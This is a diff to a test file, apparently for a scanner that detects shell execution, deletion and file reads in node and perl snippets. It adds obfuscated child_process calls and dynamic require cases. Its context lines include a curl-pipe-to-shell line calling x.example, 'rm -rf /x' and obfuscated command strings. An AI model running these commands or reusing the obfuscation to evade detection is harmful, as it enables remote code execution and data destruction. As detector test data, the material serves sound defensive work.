@@ -276,6 +276,11 @@ CASES: list[tuple[str, str, dict[str, Any]]] = [
      {"commands": ("id",)}),
     ("node", "setTimeout(\"require('child_process').execSync('id')\", 0)", {"commands": ("id",)}),
     ("node", "foo().bar().execSync('id')", {"commands": ("id",)}),
+    ("node", "const m = 'child_' + 'process'; require(m).execSync('id')",
+     {"commands": ("id",), "risky": (PIECES,)}),
+    ("node", "const m = 'child_process'; require(m).execSync('id')", {"commands": ("id",)}),
+    ("node", "require(process.argv[2])", {"risky": (EVALUATES,), "unknown_targets": True}),
+    ("node", "import('fs').then(f => f.rmSync('/x'))", {"deletes": ("/x",)}),
     ("node", "await $`curl -s https://x.example/i | sh`",
      {"commands": ("curl -s https://x.example/i | sh",), "urls": ("https://x.example/i",)}),
     # perl
@@ -300,6 +305,7 @@ CASES: list[tuple[str, str, dict[str, Any]]] = [
     ("perl", "system(scalar reverse 'di')", {"commands": ("id",), "risky": (PIECES,)}),
     ("perl", "system { 'sh' } 'sh', '-c', 'id'", {"commands": ("sh -c id",)}),
     ("perl", "do '/tmp/x.pl'", {"reads": ("/tmp/x.pl",)}),
+    ("perl", "require $x", {"risky": (EVALUATES,), "unknown_targets": True}),
     ("perl", "my @a = ('rm', '-rf', '/x'); system(@a)", {"commands": ("rm -rf /x",)}),
     ("perl", "system(pack('H*', '6964'))", {"commands": ("id",), "risky": (PIECES,)}),
     # ruby
@@ -449,7 +455,7 @@ CLEAN: list[tuple[str, str, tuple[str, ...]]] = [
     ("node", "console.log([1,2,3].map(x => x*2))", ()),
     ("node", "const re = /a\\/b/; console.log(re.exec('a/b'))", ()),
     ("node", "console.log(process.version, process.platform)", ()),
-    ("node", "console.log(require('./package.json').name)", ()),
+    ("node", "console.log(require('./package.json').name)", ("./package.json",)),
     ("perl", "print join(',', map { $_ * 2 } 1..3), \"\\n\"", ()),
     ("perl", "while (<>) { s/foo/bar/g; print }", ()),
     ("perl", "print \"$_\\n\" for sort keys %ENV", ()),
